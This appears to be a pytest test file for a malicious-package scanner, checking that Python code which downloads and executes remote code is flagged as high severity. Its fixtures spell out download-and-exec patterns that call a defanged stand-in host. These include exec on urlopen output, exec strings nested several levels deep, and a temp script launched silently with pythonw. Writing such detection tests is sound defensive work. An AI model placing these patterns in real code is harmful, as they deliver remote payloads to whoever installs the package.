"""Code fetched and run, and code held in strings that are run (issue 10, real malware).

`exec(urlopen(u).read())` runs whatever the server sends; `exec("…")` and a script written to
disk and started hold their code in a string, where a reader and the rules looked only at a
literal. The string is read as code, its calls placed on the line that runs it. Synthetic and
defanged (hosts under `.invalid`); each positive has an honest twin.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support import archives as A
from watcher.models import Severity
from watcher.parse import parse_source
from watcher.pipeline import scan_local

DIRECT = """from urllib.request import urlopen
exec(urlopen("https://stage.example.invalid/a").read())
"""
THROUGH_A_NAME = """import requests
body = requests.get("https://stage.example.invalid/a", timeout=5).text
exec(body)
"""
IN_A_STRING = """exec("from urllib.request import urlopen;exec(urlopen('https://stage.example.invalid/a').read())")
"""
WRITTEN_AND_STARTED = '''import os, subprocess, tempfile
t = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
t.write(b"""import requests;exec(requests.get('https://stage.example.invalid/a').text)""")
t.close()
subprocess.Popen(["pythonw", t.name])
'''
#: Honest twins: code run from the package's own files, or a constant that fetches nothing,
#: beside network code that only reads data.
RUNS_ITS_OWN_FILE = """import json, runpy, urllib.request
def settings(url):
    return json.loads(urllib.request.urlopen(url).read())
def plugin(path):
    with open(path) as f:
        exec(compile(f.read(), path, "exec"), {})
exec("FLAGS = dict(verbose=False)")
"""
NOT_PYTHON = """import requests
TEMPLATE = "{{ user.name }} -> {{ (user.id | int) }}"
def render(env):
    return eval(TEMPLATE, env) if env.get("unsafe") else requests.get(env["u"]).json()
"""


@pytest.mark.parametrize(
    ("source", "line"),
    [(DIRECT, 2), (THROUGH_A_NAME, 3), (IN_A_STRING, 1), (WRITTEN_AND_STARTED, 5)],
    ids=["direct", "through-a-name", "in-a-string", "written-and-started"],
)
def test_code_that_runs_what_it_downloads_is_high(tmp_path: Path, source: str, line: int) -> None:
    found = _scan(tmp_path, source)
    assert ("code.dynamic-code", Severity.HIGH, line) in found


def test_the_string_run_by_exec_is_read_as_code() -> None:
    facts = parse_source("pkg/mod.py", IN_A_STRING)
    assert facts is not None
    assert {(c.callee, c.span.line) for c in facts.calls} >= {
        ("exec", 1),
        ("urllib.request.urlopen", 1),
    }
    assert [i.module for i in facts.imports] == ["urllib.request"]


@pytest.mark.parametrize("source", [RUNS_ITS_OWN_FILE, NOT_PYTHON], ids=["own-file", "template"])
def test_run_code_that_is_not_downloaded_stays_below_high(tmp_path: Path, source: str) -> None:
    found = _scan(tmp_path, source)
    assert found and max(severity for _, severity, _ in found) <= Severity.MEDIUM
    assert not any(rule == "analysis.incomplete" for rule, _, _ in found)


def _scan(tmp_path: Path, module: str) -> list[tuple[str, Severity, int | None]]:
    files = {
        "PKG-INFO": "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n",
        "pkg.egg-info/top_level.txt": "pkg\n",
        "pkg/__init__.py": module,
    }
    artifact = tmp_path / "pkg-1.0.tar.gz"
    artifact.write_bytes(A.sdist("pkg", "1.0", files))
    return [(f.rule, f.severity, f.line) for f in scan_local(artifact).findings]


def _nested(levels: int) -> str:
    code = (
        "from urllib.request import urlopen;exec(urlopen('https://stage.example.invalid/a').read())"
    )
    for _ in range(levels):
        code = f"exec({code!r})"
    return code + "\n"


def test_strings_run_within_strings_are_read_a_few_levels_deep(tmp_path: Path) -> None:
    found = _scan(tmp_path, _nested(2))
    assert ("code.dynamic-code", Severity.HIGH, 1) in found
    assert not any(rule == "analysis.incomplete" for rule, _, _ in found)


def test_code_nested_in_strings_past_the_limit_is_a_gap(tmp_path: Path) -> None:
    found = _scan(tmp_path, _nested(6))
    assert ("analysis.incomplete", Severity.HIGH, None) in found
